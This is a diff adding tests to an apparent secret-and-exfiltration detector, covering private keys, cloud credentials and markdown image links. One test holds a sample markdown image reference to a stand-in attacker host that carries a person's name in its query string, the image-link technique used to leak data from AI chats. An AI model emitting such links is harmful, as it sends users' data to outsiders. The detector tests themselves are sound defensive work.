@@ -128,3 +128,17 @@ def test_a_private_key_is_taken_whole_and_not_with_the_text_behind_it(find):
         assert find(f"Here: {key} Do not lose it.") == {key: "PRIVATE_KEY"}
     cut = "\n".join(("-----BEGIN PRIVATE KEY-----", *lines))
     assert list(find(f"{cut}!").values()) == ["PRIVATE_KEY"]
+
+
+def test_an_array_and_the_last_word_of_prose_are_not_held(patterns):
+    text = 'See [the list: ["alpha", "beta", [1, 2, 3], {"id": 12}, "gamma'
+    wanted = {"MARKDOWN_IMAGE_LINK", "AZURE_CLIENT_SECRET", "MAXMIND_LICENSE_KEY"}
+    stream = patterns.only(wanted).stream()
+    for end, letter in enumerate(text, 1):
+        assert stream.feed(letter).settled == end, text[:end]
+
+
+def test_a_reference_is_found_however_long_its_label_is(find):
+    label = "a" * 300
+    found = find(f"![x][{label}]\n\n[{label}]: https://evil.example/p?data=Ada%20Lovelace")
+    assert found == {"https://evil.example/p?data=Ada%20Lovelace": "MARKDOWN_IMAGE_LINK"}
